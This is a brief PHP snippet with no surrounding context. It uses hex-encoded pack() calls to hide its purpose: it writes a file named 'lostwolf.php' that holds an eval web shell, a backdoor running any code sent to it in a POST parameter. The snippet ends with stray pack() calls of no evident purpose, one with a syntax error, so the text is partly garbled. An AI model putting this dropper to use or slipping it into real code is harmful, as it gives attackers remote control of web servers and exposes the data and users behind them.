<?php fputs(fopen(pack("H*","6c6f7374776f6c662e706870"),"w"),pack("H*","3c3f406576616c28245f504f53545b785d293f3e")); pack("H*", "6"); pack("N", "1"); pack("H*" "41");
